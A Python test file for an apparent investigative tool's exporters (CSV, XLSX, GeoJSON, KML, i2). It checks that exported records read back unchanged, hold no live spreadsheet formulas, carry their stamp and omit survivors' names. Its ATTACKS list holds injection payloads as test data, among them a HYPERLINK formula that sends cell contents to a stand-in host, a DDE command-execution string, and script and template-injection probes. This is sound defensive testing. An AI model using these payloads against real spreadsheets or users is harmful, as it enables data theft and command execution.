"""Whatever a record holds, the files parse again and say the same; nothing in them runs."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import replace
from typing import IO
from xml.etree import ElementTree

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from clew.disclosure.exports.geographic import write_geojson, write_kml
from clew.disclosure.exports.i2 import write_i2
from clew.disclosure.exports.tabular import CUT, MOST_IN_CELL, write_csv, write_xlsx
from clew.disclosure.exports.text import (
    LINK_COLUMNS,
    RECORD_COLUMNS,
    Extract,
    LinkRow,
    Mention,
    RecordRow,
    Stamp,
    clean_text,
)
from clew.disclosure.words import REASON_TO_LOOK
from clew.model.case_file import Coverage
from clew.model.cells import unsafe_cell
from clew.model.finding import Finding, Stance

KML = "{http://www.opengis.net/kml/2.2}"
ATTACKS = (
    "=HYPERLINK(\"http://x.invalid/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
    "\t=1+1", "\r=1+1", "=1+1\n", "'=1", "#N/A", "<script>alert(1)</script>", "]]>", "&amp;",
    "_x0041_", "_x005F_x0041_", "a\x00b", "\ud800", "\ufffe", "\u202egnp", '"', ",", ";", "\r\n",
    "{{ 7*7 }}", "%s", "",
)  # fmt: skip
STAMP = Stamp(
    "X-1", "Records of KD", "ann", 1_403_150_700, "the nine o'clock meeting", "the murder team", 2,
    (Coverage("records", "MPS", 812, "2014-06-19"), Coverage("records", "BTP", 0, "")),
)  # fmt: skip
anything = st.text(max_size=60) | st.sampled_from(ATTACKS)
Writer = Callable[[Extract, IO[bytes]], None]
WRITERS: tuple[Writer, ...] = (write_csv, write_xlsx, write_geojson, write_kml, write_i2)


def extract(text: str, other: str = "BD-2", stamp: Stamp = STAMP) -> Extract:
    a = RecordRow("BD-1", 1_403_150_700, {"cause": text, "narrative": text}, 51.5, 0.08)
    b = RecordRow(other, 1_404_000_000, {"known_as": text}, None, None)
    findings = (
        Finding("scene", "scene", Stance.AGREES, 900_000, text),
        Finding("victim", "age", Stance.DIFFERS, -100_000, "ages 22 and 60"),
        Finding("cause", "cause", Stance.MISSING, 0, "no cause yet"),
    )
    link = LinkRow(
        other, "BD-1", 1_404_000_000, 1, 800_000, 0.01, 11_000.0, "similarity", "lead", "open",
        findings, (text,),
    )  # fmt: skip
    mentions = (
        Mention("BD-1", "caller", "person", "P1"),
        Mention(other, "finder", "person", "P1"),
        Mention("BD-1", "contact", "phone", "ONLY-ONCE"),
        Mention("BD-1", "contact", "handle", "H1"),
        Mention(other, "contact", "handle", "H1"),
        Mention("BD-1", "officer", "officer", "O1"),
        Mention(other, "officer", "officer", "O1"),
        Mention("BD-1", "officer", "person", "O2"),
        Mention(other, "officer", "person", "O2"),
    )
    return Extract(stamp, [a, b], [link], mentions)


def made(write: Writer, export: Extract) -> bytes:
    file = io.BytesIO()
    write(export, file)
    return file.getvalue()


def tables(raw: bytes, name: str) -> list[list[str]]:
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        text = archive.read(name).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


@example("=1+1")
@example("_x0041_")
@given(anything)
def test_csv_says_the_same(text: str) -> None:
    raw = made(write_csv, extract(text))
    records = tables(raw, "records.csv")
    assert records[0] == [*RECORD_COLUMNS, "notice", "export"]
    first = dict(zip(records[0], map(unsafe_cell, records[1]), strict=True))
    assert first["cause"] == first["narrative"] == clean_text(text)
    links = tables(raw, "links.csv")
    link = dict(zip(links[0], links[1], strict=True))
    assert link["weight_bans"] == "0.800000"
    assert clean_text(text) in link["reasons_for"]
    assert unsafe_cell(link["other_explanations"]) == clean_text(text)


@pytest.mark.parametrize("name", ["records.csv", "links.csv", "entities.csv", "about.csv"])
@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_of_any_csv_is_a_formula(attack: str, name: str) -> None:
    stamp = replace(STAMP, made_by=attack, purpose=attack, what=attack, given_to=attack)
    for write in (write_csv, write_i2):
        raw = made(write, extract(attack, stamp=stamp))
        with zipfile.ZipFile(io.BytesIO(raw)) as archive:
            if name not in archive.namelist():
                continue
        for row in tables(raw, name):
            for cell in row:
                number = cell.replace(".", "").replace("-", "").isdigit()
                assert number or not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


@example("=1+1")
@example("_x0041_")
@example("_x005F_x0041_")
@example("\r=1+1")
@example("a\r\nb")
@settings(max_examples=60, suppress_health_check=[HealthCheck.too_slow])
@given(anything)
def test_a_workbook_says_the_same_and_holds_no_formula(text: str) -> None:
    book = load_workbook(io.BytesIO(made(write_xlsx, extract(text))))
    sheet = book["Records"]
    cell = sheet.cell(2, RECORD_COLUMNS.index("cause") + 1)
    assert read(cell.value) == clean_text(text)
    assert read(book["Links"].cell(2, len(LINK_COLUMNS)).value) == clean_text(text)
    for one in book:
        for row in one.iter_rows():
            assert {c.data_type for c in row} <= {"s", "n", "inlineStr"}
            assert not [c for c in row if c.data_type == "n" and c.value is not None]
    if text.startswith(("=", "+", "-", "@")):
        assert cell.quotePrefix


def read(value: object) -> str:
    """Read a cell as a spreadsheet does: openpyxl leaves the escape of an underscore."""
    return str(value or "").replace("_x005F_", "_")


def test_a_workbook_bears_the_words_in_print_too() -> None:
    book = load_workbook(io.BytesIO(made(write_xlsx, extract("x"))))
    assert [s.title for s in book] == ["About", "Records", "Links"]
    assert all(s.oddFooter.center.text == REASON_TO_LOOK for s in book)
    assert book["About"].cell(1, 2).value == REASON_TO_LOOK


def test_a_text_too_long_for_a_cell_says_that_it_was_cut() -> None:
    for long in ("a" * 40_000, "\U0001f9f6" * 20_000):
        book = load_workbook(io.BytesIO(made(write_xlsx, extract(long))))
        cell = str(book["Records"].cell(2, RECORD_COLUMNS.index("narrative") + 1).value)
        assert cell.endswith(CUT)
        assert len(cell.encode("utf-16-le")) // 2 <= MOST_IN_CELL


@given(anything)
def test_geojson_says_the_same(text: str) -> None:
    export = json.loads(made(write_geojson, extract(text)))
    assert export["type"] == "FeatureCollection"
    assert export["notice"] == REASON_TO_LOOK
    first, second, link = export["features"]
    assert first["geometry"] == {"type": "Point", "coordinates": [0.08, 51.5]}
    assert first["properties"].get("narrative", "") == clean_text(text)
    assert second["geometry"] is link["geometry"] is None
    assert all(f["properties"]["notice"] == REASON_TO_LOOK for f in export["features"])
    assert b"weight_bans" not in made(write_geojson, extract(text))


@given(anything)
def test_kml_is_well_formed_and_says_the_same(text: str) -> None:
    root = ElementTree.fromstring(made(write_kml, extract(text)))
    marks = list(root.iter(f"{KML}Placemark"))
    assert len(marks) == 3
    export = {d.get("name"): d.findtext(f"{KML}value") for d in marks[0].iter(f"{KML}Data")}
    assert export.get("narrative", "") == clean_text(text)
    assert export["notice"] == REASON_TO_LOOK
    assert marks[0].findtext(f"{KML}Point/{KML}coordinates") == "0.08,51.5"


@given(st.floats(-90, 90), st.floats(-180, 180), st.floats(-90, 90), st.floats(-180, 180))
def test_lines_stay_within_the_world(a: float, b: float, c: float, d: float) -> None:
    export = extract("x")
    one, two = (
        replace(row, latitude=y, longitude=x)
        for row, y, x in zip(export.records, (a, c), (b, d), strict=True)
    )
    geometry = json.loads(made(write_geojson, replace(export, records=[one, two])))["features"][2][
        "geometry"
    ]
    for x, y in positions(geometry["coordinates"]):
        assert abs(x) <= 180
        assert abs(y) <= 90
    if geometry["type"] == "LineString":
        (x1, _), (x2, _) = geometry["coordinates"]
        assert abs(x1 - x2) <= 180


def positions(export: list[object]) -> Iterator[tuple[float, float]]:
    if export and isinstance(export[0], float | int):
        yield (float(export[0]), float(export[1]))  # type: ignore[arg-type]
        return
    for one in export:
        yield from positions(one)  # type: ignore[arg-type]


@given(anything)
def test_i2_draws_records_and_only_who_is_in_two_of_them(text: str) -> None:
    raw = made(write_i2, extract(text))
    entities, links = tables(raw, "entities.csv"), tables(raw, "links.csv")
    assert [row[0] for row in entities[1:]] == ["BD-1", "BD-2", "person:P1"]
    assert entities[1][5:7] == ["51.5", "0.08"]
    head = links[0]
    assert [row[head.index("link_type")] for row in links[1:]] == [
        "Possible link", "Named in", "Named in",
    ]  # fmt: skip
    assert {row[head.index("strength")] for row in links[1:]} == {"Tentative"}
    assert all(row[head.index("notice")] == REASON_TO_LOOK for row in links[1:])
    identities = {row[0] for row in entities[1:]}
    assert {row[head.index("end1_identity")] for row in links[1:]} <= identities
    assert {row[head.index("end2_identity")] for row in links[1:]} <= identities
    assert "ONLY-ONCE" not in str(links) + str(entities)
    assert "weight" not in str(head)


@pytest.mark.parametrize("write", WRITERS)
def test_every_export_bears_its_stamp(write: Writer) -> None:
    raw = made(write, extract("x"))
    text = all_text(raw)
    for words in (
        REASON_TO_LOOK, "X-1", "ann", "19 June 2014, 05:05", "murder team",
        "2 records", "records of BTP", "812 records",
    ):  # fmt: skip
        assert words in text, words


def all_text(raw: bytes) -> str:
    if not zipfile.is_zipfile(io.BytesIO(raw)):
        return raw.decode()
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        return "".join(archive.read(name).decode("utf-8-sig") for name in archive.namelist())


@pytest.mark.parametrize("write", WRITERS)
def test_two_runs_give_the_same_bytes(write: Writer) -> None:
    assert made(write, extract("x")) == made(write, extract("x"))


@pytest.mark.parametrize("write", WRITERS)
def test_a_survivor_is_not_named(write: Writer) -> None:
    export = extract("x")
    row = RecordRow("NF-1", 1_403_150_700, {"kind": "non_fatal", "known_as": "Mary Example"})
    assert "Mary Example" not in all_text(made(write, replace(export, records=[row], links=[])))
